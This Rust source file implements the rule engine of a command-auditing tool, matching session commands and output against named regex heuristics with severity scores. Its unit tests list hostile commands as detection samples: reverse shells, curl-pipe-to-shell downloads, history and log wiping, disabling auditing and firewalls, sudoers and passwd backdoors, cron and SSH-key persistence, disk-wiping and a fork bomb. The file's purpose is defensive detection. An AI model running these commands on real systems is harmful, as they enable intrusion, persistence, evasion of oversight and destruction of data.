//! Rules: named regular expressions over the commands of a session and their output, each
//! a heuristic with a category and a score. The built-in set is `rules/default.toml`; a
//! rules file in the same layout replaces rules by name and adds new ones.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use regex::Regex;
use serde::Deserialize;

/// The built-in rules, as shipped.
pub const DEFAULT_RULES: &str = include_str!("../rules/default.toml");

/// Most bytes of a rules file or a regular expression's compiled program: a rules file is
/// an auditor's configuration, but a typo should not take the report down.
const MAX_RULES_FILE: usize = 1024 * 1024;
const REGEX_SIZE_LIMIT: usize = 4 * 1024 * 1024;

/// Why a rules file cannot be used.
#[derive(Debug, thiserror::Error)]
pub enum RulesError {
    /// The file could not be read.
    #[error("cannot read the rules file {}: {source}", path.display())]
    Read {
        /// The file.
        path: PathBuf,
        /// Why.
        source: std::io::Error,
    },
    /// The file is not valid TOML of the rules layout.
    #[error("{origin}: {message}")]
    Syntax {
        /// The file (or "built-in rules").
        origin: String,
        /// What and where (line and column, as the TOML parser says it).
        message: String,
    },
    /// One rule is wrong.
    #[error("{origin}: rule {name:?}: {message}")]
    Rule {
        /// The file.
        origin: String,
        /// The rule's name.
        name: String,
        /// What is wrong.
        message: String,
    },
}

/// One rule.
#[derive(Clone, Debug)]
pub struct Rule {
    /// Unique name, `[a-z0-9-]+`.
    pub name: String,
    /// Group of rules (`defence-evasion`, `persistence`, …).
    pub category: String,
    /// 1–100.
    pub score: u8,
    /// What a hit means.
    pub description: String,
    /// Over the command line.
    pub command: Option<Regex>,
    /// Over the command's output.
    pub output: Option<Regex>,
    /// A disabled rule is kept (so a file can turn a built-in one off) but never fires.
    pub enabled: bool,
}

impl Rule {
    /// Severity of a hit, from the score.
    pub fn severity(&self) -> Severity {
        Severity::of(self.score)
    }

    /// Whether the rule fires on this command line and output; the evidence is the
    /// matched text (of the command if the rule has a command pattern, else of the
    /// output).
    pub fn matches<'t>(&self, command: &'t str, output: &'t str) -> Option<&'t str> {
        if !self.enabled {
            return None;
        }
        let in_command = match &self.command {
            Some(re) => Some(re.find(command)?.as_str()),
            None => None,
        };
        let in_output = match &self.output {
            Some(re) => Some(re.find(output)?.as_str()),
            None => None,
        };
        in_command.or(in_output)
    }
}

/// Severity bands of scores.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    /// Below 40.
    Low,
    /// 40–59.
    Medium,
    /// 60–79.
    High,
    /// 80 and up.
    Critical,
}

impl Severity {
    /// The band of `score`.
    pub fn of(score: u8) -> Severity {
        match score {
            80.. => Severity::Critical,
            60..=79 => Severity::High,
            40..=59 => Severity::Medium,
            _ => Severity::Low,
        }
    }

    /// Lowercase name.
    pub fn as_str(self) -> &'static str {
        match self {
            Severity::Low => "low",
            Severity::Medium => "medium",
            Severity::High => "high",
            Severity::Critical => "critical",
        }
    }

    /// Every band, most severe first.
    pub const ALL: [Severity; 4] = [
        Severity::Critical,
        Severity::High,
        Severity::Medium,
        Severity::Low,
    ];
}

/// The rules in force, in a stable order (by name).
#[derive(Clone, Debug)]
pub struct RuleSet {
    rules: Vec<Rule>,
    /// Where they came from: "built-in" and/or file paths.
    pub origin: String,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct File {
    version: Option<u32>,
    #[serde(default)]
    rule: Vec<RawRule>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawRule {
    name: String,
    category: String,
    score: u8,
    description: String,
    command: Option<String>,
    output: Option<String>,
    #[serde(default = "yes")]
    enabled: bool,
}

fn yes() -> bool {
    true
}

impl RuleSet {
    /// The built-in rules.
    pub fn builtin() -> RuleSet {
        // The built-in file is checked by a unit test; failing here would be a build bug.
        Self::parse(DEFAULT_RULES, "built-in rules").unwrap_or_else(|e| RuleSet {
            rules: Vec::new(),
            origin: format!("built-in rules (broken: {e})"),
        })
    }

    /// No rules at all.
    pub fn empty() -> RuleSet {
        RuleSet {
            rules: Vec::new(),
            origin: "no rules".to_string(),
        }
    }

    /// Rules from TOML text; `origin` names it in errors.
    pub fn parse(text: &str, origin: &str) -> Result<RuleSet, RulesError> {
        let file: File = toml::from_str(text).map_err(|e| RulesError::Syntax {
            origin: origin.to_string(),
            message: e.to_string().trim_end().replace('\n', " "),
        })?;
        if let Some(v) = file.version.filter(|&v| v != 1) {
            return Err(RulesError::Syntax {
                origin: origin.to_string(),
                message: format!("version {v} is not known to this build (it reads version 1)"),
            });
        }
        let mut by_name = BTreeMap::new();
        for raw in file.rule {
            let rule = compile(raw, origin)?;
            if by_name.contains_key(&rule.name) {
                return Err(RulesError::Rule {
                    origin: origin.to_string(),
                    name: rule.name,
                    message: "defined twice".to_string(),
                });
            }
            by_name.insert(rule.name.clone(), rule);
        }
        Ok(RuleSet {
            rules: by_name.into_values().collect(),
            origin: origin.to_string(),
        })
    }

    /// Reads a rules file.
    pub fn load(path: &Path) -> Result<RuleSet, RulesError> {
        let read = |source| RulesError::Read {
            path: path.to_path_buf(),
            source,
        };
        let meta = std::fs::metadata(path).map_err(read)?;
        if meta.len() > MAX_RULES_FILE as u64 {
            return Err(RulesError::Syntax {
                origin: path.display().to_string(),
                message: format!("{} bytes; a rules file may hold at most 1 MiB", meta.len()),
            });
        }
        let text = std::fs::read_to_string(path).map_err(read)?;
        Self::parse(&text, &path.display().to_string())
    }

    /// These rules with `other`'s laid over them: same name replaces, new names add.
    pub fn overlay(mut self, other: RuleSet) -> RuleSet {
        for rule in other.rules {
            match self.rules.iter_mut().find(|r| r.name == rule.name) {
                Some(slot) => *slot = rule,
                None => self.rules.push(rule),
            }
        }
        self.rules.sort_by(|a, b| a.name.cmp(&b.name));
        self.origin = format!("{} + {}", self.origin, other.origin);
        self
    }

    /// Every rule, disabled ones included.
    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    /// The enabled rules that fire on a command line and its output, with their evidence.
    pub fn hits<'r, 't>(
        &'r self,
        command: &'t str,
        output: &'t str,
    ) -> impl Iterator<Item = (&'r Rule, &'t str)> {
        self.rules
            .iter()
            .filter_map(move |r| r.matches(command, output).map(|e| (r, e)))
    }
}

fn compile(raw: RawRule, origin: &str) -> Result<Rule, RulesError> {
    let bad = |message: String| RulesError::Rule {
        origin: origin.to_string(),
        name: raw.name.clone(),
        message,
    };
    if raw.name.is_empty()
        || !raw
            .name
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
    {
        return Err(bad("a name is lowercase letters, digits and '-'".into()));
    }
    if !(1..=100).contains(&raw.score) {
        return Err(bad(format!("score {} is not within 1..=100", raw.score)));
    }
    if raw.command.is_none() && raw.output.is_none() {
        return Err(bad(
            "needs a `command` or an `output` pattern (or both)".into()
        ));
    }
    let regex = |field: &str, pattern: &Option<String>| -> Result<Option<Regex>, RulesError> {
        pattern
            .as_deref()
            .map(|p| {
                regex::RegexBuilder::new(p)
                    .size_limit(REGEX_SIZE_LIMIT)
                    .build()
                    .map_err(|e| bad(format!("`{field}` is not a valid regular expression: {e}")))
            })
            .transpose()
    };
    Ok(Rule {
        command: regex("command", &raw.command)?,
        output: regex("output", &raw.output)?,
        name: raw.name,
        category: raw.category,
        score: raw.score,
        description: raw.description,
        enabled: raw.enabled,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fires(rules: &RuleSet, command: &str) -> Vec<String> {
        rules
            .hits(command, "")
            .map(|(r, _)| r.name.clone())
            .collect()
    }

    #[test]
    fn the_builtin_rules_parse() {
        let rules = RuleSet::parse(DEFAULT_RULES, "built-in").unwrap();
        assert_eq!(rules.rules().len(), 10);
        assert!(rules.rules().iter().all(|r| r.enabled));
        assert_eq!(RuleSet::builtin().rules().len(), 10);
    }

    /// Each rule against commands it must flag and look-alikes it must not.
    fn check_cases(cases: &[(&str, &[&str], &[&str])]) {
        let rules = RuleSet::builtin();
        for (rule, hits, misses) in cases {
            for c in *hits {
                assert!(
                    fires(&rules, c).contains(&rule.to_string()),
                    "{rule} should flag {c:?}: {:?}",
                    fires(&rules, c)
                );
            }
            for c in *misses {
                assert!(
                    !fires(&rules, c).contains(&rule.to_string()),
                    "{rule} should not flag {c:?}"
                );
            }
        }
    }

    #[test]
    fn evasion_execution_and_remote_shell_rules_fire_on_what_they_describe() {
        check_cases(&[
            (
                "history-tampering",
                &[
                    "unset HISTFILE",
                    "export HISTSIZE=0",
                    "history -c",
                    "set +o history",
                    "rm ~/.bash_history",
                    "ln -sf /dev/null ~/.bash_history",
                ],
                &["history | tail", "echo $HISTFILE"],
            ),
            (
                "log-wiping",
                &[
                    "rm -f /var/log/auth.log",
                    "shred -u /var/log/secure",
                    "echo > /var/log/syslog",
                    "truncate -s0 /var/log/wtmp",
                    "journalctl --vacuum-time=1s",
                ],
                &["tail -f /var/log/syslog", "less /var/log/auth.log"],
            ),
            (
                "download-and-execute",
                &[
                    "curl -fsSL https://x.example/i.sh | sh",
                    "wget -qO- http://x/y | sudo bash",
                    "bash <(curl -s http://x/y)",
                    "sh -c \"$(curl -fsSL http://x/y)\"",
                    "wget http://x/y -O /tmp/y && chmod +x /tmp/y",
                ],
                &[
                    "curl -o file.tar.gz https://x/y",
                    "wget https://x/y | tee log",
                ],
            ),
            (
                "reverse-shell",
                &[
                    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                    "nc -e /bin/sh 10.0.0.1 4444",
                    "ncat --exec /bin/bash 10.0.0.1 4444",
                    "socat tcp:10.0.0.1:4444 exec:bash",
                    "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i | nc 10.0.0.1 4444 > /tmp/f",
                ],
                &["nc -z db1 5432", "ncat -l 8080"],
            ),
        ]);
    }

    #[test]
    fn privilege_persistence_and_destruction_rules_fire_on_what_they_describe() {
        check_cases(&[
            (
                "privilege-change",
                &[
                    "sudo su -",
                    "sudo -i",
                    "su - root",
                    "chmod u+s /bin/bash",
                    "chmod 4755 /tmp/x",
                    "setcap cap_setuid+ep /usr/bin/python3",
                    "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
                ],
                &["sudo systemctl status nginx", "chmod 755 x", "summary"],
            ),
            (
                "account-change",
                &[
                    "useradd -m backdoor",
                    "passwd root",
                    "usermod -aG sudo eve",
                    "echo 'eve:x' | chpasswd",
                    "sudo passwd -d root",
                    "echo 'eve:x:0:0::/root:/bin/bash' >> /etc/passwd",
                ],
                &["cat README.passwords.md", "getent passwd alice"],
            ),
            (
                "defence-impairment",
                &[
                    "setenforce 0",
                    "systemctl stop auditd",
                    "sudo systemctl disable --now rsyslog",
                    "auditctl -D",
                    "iptables -F",
                    "ufw disable",
                    "pkill -9 auditty-agent",
                ],
                &["systemctl status auditd", "iptables -L"],
            ),
            (
                "persistence-authorized-keys",
                &[
                    "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys",
                    "vi /root/.ssh/authorized_keys",
                ],
                &["ssh-keygen -t ed25519"],
            ),
            (
                "persistence-startup",
                &[
                    "echo 'curl x|sh' >> ~/.bashrc",
                    "crontab -e",
                    "echo '* * * * * root /tmp/x' > /etc/cron.d/x",
                    "systemctl enable evil.service",
                ],
                &["cat ~/.bashrc", "crontab -l"],
            ),
            (
                "destructive",
                &[
                    "rm -rf /",
                    "rm -rf --no-preserve-root /",
                    "sudo rm -fr ~",
                    "rm -rf /*",
                    "mkfs.ext4 /dev/sdb1",
                    "dd if=/dev/zero of=/dev/sda bs=1M",
                    ":(){ :|:& };:",
                ],
                &["rm -rf ./build", "rm -rf /tmp/x", "dd if=a.img of=b.img"],
            ),
        ]);
    }

    #[test]
    fn a_file_replaces_disables_and_adds_rules_by_name() {
        let file = RuleSet::parse(
            r#"
[[rule]]
name = "destructive"
category = "impact"
score = 90
description = "off here"
command = "rm"
enabled = false

[[rule]]
name = "denied"
category = "access"
score = 30
description = "permission denied in the output of a sudo"
command = '\bsudo\b'
output = '(?i)permission denied'
"#,
            "site.toml",
        )
        .unwrap();
        let rules = RuleSet::builtin().overlay(file);
        assert_eq!(rules.rules().len(), 11);
        assert!(!fires(&rules, "rm -rf /").contains(&"destructive".to_string()));
        let denied = |c, o| rules.hits(c, o).any(|(r, _)| r.name == "denied");
        assert!(denied("sudo cat /etc/shadow", "cat: Permission denied"));
        assert!(!denied("sudo cat /etc/shadow", "root:x:0"));
        assert!(!denied("cat x", "Permission denied"));
        assert_eq!(rules.origin, "built-in rules + site.toml");
    }

    #[test]
    fn bad_files_are_refused_naming_the_rule_and_place() {
        let err = |text: &str| RuleSet::parse(text, "r.toml").unwrap_err().to_string();
        assert!(err("[[rule]]\nname = 1\n").starts_with("r.toml: "));
        assert!(
            err("[[rule]]\nname = 1\n").contains("line 2"),
            "{}",
            err("[[rule]]\nname = 1\n")
        );
        let base = "[[rule]]\nname = \"x\"\ncategory = \"c\"\ndescription = \"d\"\n";
        assert_eq!(
            err(&format!("{base}score = 0\ncommand = \"a\"\n")),
            "r.toml: rule \"x\": score 0 is not within 1..=100"
        );
        assert_eq!(
            err(&format!("{base}score = 5\n")),
            "r.toml: rule \"x\": needs a `command` or an `output` pattern (or both)"
        );
        assert!(
            err(&format!("{base}score = 5\ncommand = \"(\"\n"))
                .starts_with("r.toml: rule \"x\": `command` is not a valid regular expression")
        );
        assert!(err(&format!("{base}score = 5\ncommand = \"a\"\ncolour = 1\n")).contains("colour"));
        assert_eq!(
            err(&format!(
                "{base}score = 5\ncommand = \"a\"\n{base}score = 5\ncommand = \"b\"\n"
            )),
            "r.toml: rule \"x\": defined twice"
        );
        assert_eq!(
            err("version = 2\n"),
            "r.toml: version 2 is not known to this build (it reads version 1)"
        );
    }

    #[test]
    fn severities_band_the_scores() {
        assert_eq!(Severity::of(1), Severity::Low);
        assert_eq!(Severity::of(40), Severity::Medium);
        assert_eq!(Severity::of(79), Severity::High);
        assert_eq!(Severity::of(80), Severity::Critical);
    }
}
